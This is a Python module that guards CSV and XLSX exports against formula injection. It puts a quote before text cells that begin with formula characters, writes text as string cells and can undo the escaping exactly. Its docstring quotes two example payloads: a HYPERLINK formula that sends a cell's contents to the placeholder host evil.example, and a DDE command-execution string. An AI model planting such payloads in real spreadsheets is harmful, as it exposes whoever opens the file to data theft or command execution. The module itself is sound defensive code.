"""Cells of every spreadsheet the application writes (CSV and XLSX): text never runs as a formula.

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a carriage return before one of them) as a formula, so an open answer
``=HYPERLINK("http://evil.example/?x="&B3,"Click")`` or a participant named
``=cmd|' /C calc'!A0`` would run on the computer of whoever opens the export. Following the
OWASP rule, such a text cell gets a leading single quote: the program shows it as text and the
reader still sees every character. Numbers stay numbers: ``int`` and ``float`` values are
written as they are, and so is text that is a plain number (``-3``, ``+0.45``), which a
spreadsheet reads as that number and never as a formula.

A text cell that already starts with quotes followed by a formula character gets one more
quote, so ``restore_text`` undoes ``safe_text`` exactly: the response import reads back the
export's CSV with the department names and answers as they were.

Every CSV goes through ``csv_writer`` and every XLSX row through ``xlsx_row``, which also
writes text as a string cell (never a formula cell, whatever it starts with).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import IO, TYPE_CHECKING, Any

from app.platform.lazy import lazy_module

if TYPE_CHECKING:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

#: Imported when an XLSX file is first written, not at start-up.
openpyxl_cell = lazy_module("openpyxl.cell")
openpyxl = lazy_module("openpyxl")
openpyxl_styles = lazy_module("openpyxl.styles")

#: The first characters that make a spreadsheet program read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r")
QUOTE = "'"
#: Text that is a plain decimal number: read as that number, never as a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _quoted_formula(text: str) -> bool:
    """Whether ``text``, after any leading quotes, starts with a formula character."""
    return text.lstrip(QUOTE)[:1] in FORMULA_STARTS


def needs_quote(text: str) -> bool:
    """Whether ``safe_text`` prefixes ``text`` with a quote."""
    return _quoted_formula(text) and _PLAIN_NUMBER.fullmatch(text) is None


def safe_text(text: str) -> str:
    """``text`` as a spreadsheet cell: a leading quote when it could start a formula."""
    return QUOTE + text if needs_quote(text) else text


def restore_text(text: str) -> str:
    """The text ``safe_text`` was given: its leading quote removed when it added one."""
    if text.startswith(QUOTE) and _quoted_formula(text):
        return text[1:]
    return text


def safe_cell(value: Any) -> Any:
    """A cell value: numbers (and empty cells) unchanged, everything else as safe text."""
    if value is None or isinstance(value, bool):
        return "" if value is None else str(value)
    if isinstance(value, int | float):
        return value
    return safe_text(str(value))


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through ``safe_cell``."""
    return [safe_cell(value) for value in values]


class SafeCsvWriter:
    """A ``csv.writer`` whose every cell goes through ``safe_cell`` (CRLF lines, as Excel)."""

    def __init__(self, stream: IO[str]) -> None:
        self._writer = csv.writer(stream, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str]) -> SafeCsvWriter:
    """The writer of every CSV the application produces."""
    return SafeCsvWriter(stream)


def xlsx_row(sheet: WriteOnlyWorksheet, values: Iterable[Any]) -> list[WriteOnlyCell]:
    """Cells for ``sheet.append``: safe values, text always a string cell, never a formula."""
    cells = []
    for value in safe_row(values):
        cell = openpyxl_cell.WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def xlsx_table(header: Iterable[Any], rows: Iterable[Iterable[Any]], sheet_name: str) -> bytes:
    """A workbook of one sheet holding a table: the header in bold, every cell safe."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_name)
    first = xlsx_row(sheet, header)
    for cell in first:
        cell.font = openpyxl_styles.Font(bold=True)
    sheet.append(first)
    for row in rows:
        sheet.append(xlsx_row(sheet, row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
